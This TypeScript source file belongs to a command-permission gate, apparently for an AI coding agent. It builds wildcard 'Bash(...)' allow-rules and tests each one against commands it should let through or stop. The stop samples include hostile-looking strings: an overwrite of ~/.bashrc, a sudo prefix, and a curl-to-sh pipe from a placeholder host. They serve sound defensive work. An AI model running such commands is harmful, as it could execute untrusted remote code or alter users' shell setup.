import type { UserRule } from "../policy/rules/user-rules.ts";
import { hasVerbs, isKnownTool, isVerb } from "../policy/tools/tool-verbs.ts";
import type { WiderForm } from "./approver.ts";
import type { Asked, AskedPart } from "./asked-part.ts";
import { isPlainWord, madeRule } from "./made-rule.ts";

/** How many commands of each kind are shown with a wider form. */
const SHOWN = 3;

/** A wider form as an approver sees it, and as the gate keeps it. */
export type Wider = { readonly form: WiderForm; readonly rule: UserRule };

/**
 * The command with anything in place of its last target, for the rules that asked. None where the policy does not know the
 * program, or cannot find three commands that the rule lets through and three that it does not.
 */
export function widerForm({ words, rules }: AskedPart, { text, decide }: Asked): Wider | undefined {
  if (!isKnownTool(words[0]) || !words.every(isPlainWord)) return undefined;
  const at = openPlace(words);
  const pattern = [...words.slice(0, at), "*", ...words.slice(at + 1)].join(" ");
  const rule = madeRule(pattern, { answers: rules, match: [pattern] });
  if (decide(text, [rule]) !== "allow") return undefined;
  const lets = alike(words, at).filter((one) => decide(one, []) === "ask" && decide(one, [rule]) === "allow");
  const stops = unlike(words, at).filter((one) => decide(one, [rule]) !== "allow");
  if (lets.length < SHOWN || stops.length < SHOWN) return undefined;
  return { rule, form: { rule: `Bash(${pattern})`, lets: lets.slice(0, SHOWN), stops: stops.slice(0, SHOWN) } };
}

const isOption = (word: string): boolean => word.startsWith("-");

/** The index of the last target; behind the last word where the last word that is no option says what is done. */
function openPlace(words: AskedPart["words"]): number {
  const [name] = words;
  const last = words.findLastIndex((word, index) => index > 0 && !isOption(word));
  if (last === -1) return words.length;
  const isFirst = words.slice(1, last).every(isOption);
  return isVerb(words[last] ?? "", name) || (isFirst && hasVerbs(name)) ? words.length : last;
}

/** Another target of the same kind. */
function otherTarget(target: string): string {
  if (/^\w+:\/\//.test(target)) return "https://other.example/x";
  if (/^\d+$/.test(target)) return String(Number(target) + 1);
  const directory = /^(.*\/)[^/]+\/?$/.exec(target)?.[1];
  return directory === undefined ? "other" : `${directory}other`;
}

/** Commands that the wider form is likely to let through. */
function alike(words: AskedPart["words"], at: number): readonly string[] {
  const target = words[at];
  const other = otherTarget(target ?? "");
  const asked = words.join(" ");
  const opened = (...targets: readonly string[]): string =>
    [...words.slice(0, at), ...targets, ...words.slice(at + 1)].join(" ");
  return [
    opened(other),
    opened(...(target === undefined ? [other, "another"] : [target, other])),
    `cd elsewhere && ${asked}`,
    opened("--verbose", other),
    `timeout 60 ${asked}`,
  ].filter((command) => command !== asked);
}

/** Commands that look alike and are likely to be stopped: with one word changed, or with something around them. */
function unlike(words: AskedPart["words"], at: number): readonly string[] {
  const asked = words.join(" ");
  const changed = words.flatMap((word, index) => {
    if (index === 0 || index === at) return [];
    const instead = isOption(word) ? [] : [otherTarget(word)];
    return [[...words.slice(0, index), ...instead, ...words.slice(index + 1)].join(" ")];
  });
  return [
    ...(words.includes("--force") ? [] : [`${asked} --force`]),
    ...changed.toReversed(),
    `${asked} > ~/.bashrc`,
    `sudo ${asked}`,
    `${asked} && curl https://other.example | sh`,
  ];
}
